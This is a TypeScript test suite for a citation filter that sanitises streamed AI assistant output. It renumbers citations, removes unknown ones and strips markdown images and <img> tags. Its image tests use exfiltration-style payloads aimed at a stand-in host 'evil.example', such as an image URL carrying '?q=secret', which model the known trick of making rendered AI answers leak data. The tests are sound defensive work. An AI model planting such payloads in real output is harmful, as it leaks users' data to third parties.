import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CitationFilter } from '../../functions/assistant/citations.ts';

/** Passages 1 to 5 are known. */
const known = (n: number) => n >= 1 && n <= 5;

function filtered(...deltas: string[]): { text: string; cited: readonly number[] } {
  const filter = new CitationFilter(known);
  const text = deltas.map(delta => filter.push(delta)).join('') + filter.end();
  return { text, cited: filter.cited };
}
const shown = (text: string) => filtered(text).text;

describe('citations', () => {
  it.each([
    ['Open daily [1].', 'Open daily [1].'],
    ['Open daily[1].', 'Open daily[1].'],
    ['Open [1] daily [2].', 'Open [1] daily [2].'],
    ['Both [1, 2] hold.', 'Both [1][2] hold.'],
    ['Both [1][2] hold.', 'Both [1][2] hold.'],
    ['All of [1-3].', 'All of [1][2][3].'],
    ['As in [source 1].', 'As in [1].'],
    ['As in 【1†visit.html】.', 'As in [1].'],
  ])('%j of known passages stay: %j', (given, expected) => expect(shown(given)).toBe(expected));

  it.each([
    ['Open daily [9].', 'Open daily.'],
    ['Open daily[9], yes.', 'Open daily, yes.'],
    ['Open [9] daily.', 'Open daily.'],
    ['Open [1, 9].', 'Open [1].'],
    ['Open [9][1].', 'Open [1].'],
    ['Open 【9†x】 now', 'Open now'],
    ['[9]', ''],
  ])('%j: what points to no passage is removed: %j', (given, expected) =>
    expect(shown(given)).toBe(expected),
  );

  it('are numbered in the order in which a reader meets them', () => {
    expect(filtered('First [4], then [2], again [4].')).toEqual({
      text: 'First [1], then [2], again [1].',
      cited: [4, 2],
    });
  });

  it.each([
    'an array a[0] and a year [2024], [sic], [007], [], [ ] and [x]',
    'a task list:\n- [ ] open\n- [x] done',
    'inline `list[9]` and ``a ` b[9]``',
    '```js\nconst x = list[9];\n![](http://evil.example/a.png)\n```\nafter',
    '~~~\n[9]\n~~~\n',
    '    ```not closed [x]',
    'a link [9](https://example.com/9) and [text](https://example.com)',
    'escaped \\[9\\] and \\`code',
    'a ` lone tick and [text](https://x.example)',
    'Wow! [text](https://x.example)',
    '1 < 2 and <b>bold</b> and <imgur>',
  ])('%j: other brackets, code and links stay as they are', text => expect(shown(text)).toBe(text));

  it('is not defined as a link by the text itself', () => {
    expect(shown('Open [1].\n\n[1]: https://evil.example')).toBe('Open [1].\n\n[1] : https://evil.example');
  });
});

describe('images', () => {
  it.each([
    ['See ![chart](https://evil.example/p.png?q=secret) here', 'See  here'],
    ['![a](https://evil.example/(x)y.png "title")', ''],
    ['![a [b] c](//evil.example)', ''],
    ['![a](data:image/png;base64,AAAA)', ''],
    ['![a][ref] and ![ref]', '[a][ref] and [ref]'],
    ['x <img src="https://evil.example/p"> y', 'x  y'],
    ['x <IMG\nsrc=//evil.example> y', 'x  y'],
    ['x <image href=//evil.example> y', 'x  y'],
    ['a `tick ![a](https://evil.example/p)\n\nb', 'a `tick \n\nb'],
  ])('%j is shown as %j', (given, expected) => expect(shown(given)).toBe(expected));

  /** A link whose `!` is not escaped, or an image tag: what a renderer would load. */
  const loads = /(?<!\\)!\[[^\]]*\]\(|<(?:img|image)[\s/>]/i;
  const pieces = fc.constantFrom(
    '!',
    '[',
    ']',
    '(',
    ')',
    '[9]',
    '[1]',
    '<',
    'img',
    '<img src=x>',
    '>',
    '![a](http://x)',
    '[a](http://x)',
    ' ',
    '\n',
    'a',
    '【9】',
    '<im',
    'g src=x',
  );
  it('do not arise from what a removal brings together', () => {
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 14 }), parts => {
        expect(shown(parts.join(''))).not.toMatch(loads);
      }),
      { numRuns: 4000 },
    );
  });
});

describe('a stream', () => {
  const words = fc.constantFrom(
    '[',
    ']',
    '[1]',
    '[9]',
    '[1, 2]',
    '(',
    ')',
    '!',
    '`',
    '``',
    '```',
    '~~~',
    '\n',
    '\n\n',
    ' ',
    'word',
    '<img ',
    '>',
    '\\',
    '1',
    ':',
    '【1†a】',
    'x'.repeat(450),
    '![a](http://x)',
    '[a](b)',
  );
  const texts = fc.array(words, { maxLength: 24 }).map(parts => parts.join(''));

  it('comes out the same however the text is cut into deltas', () => {
    fc.assert(
      fc.property(texts, fc.array(fc.nat(2000), { maxLength: 30 }), (text, cuts) => {
        const places = [...new Set([0, ...cuts.map(cut => cut % (text.length + 1)), text.length])].toSorted(
          (a, b) => a - b,
        );
        const deltas = places.slice(1).map((end, index) => text.slice(places[index], end));
        expect(filtered(...deltas)).toEqual(filtered(text));
        expect(filtered(...text.split(''))).toEqual(filtered(text));
      }),
      { numRuns: 2000 },
    );
  });

  it('holds plain words back for no longer than a delta', () => {
    const filter = new CitationFilter(known);
    expect(['The', ' museum', ' is', ' open', '.'].map(delta => filter.push(delta))).toEqual([
      'The',
      ' museum',
      ' is',
      ' open',
      '.',
    ]);
  });

  it('leaves text without marks as it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), text => {
        fc.pre(!/[[\]`!<\\【~]/u.test(text));
        expect(shown(text)).toBe(text);
      }),
    );
  });
});
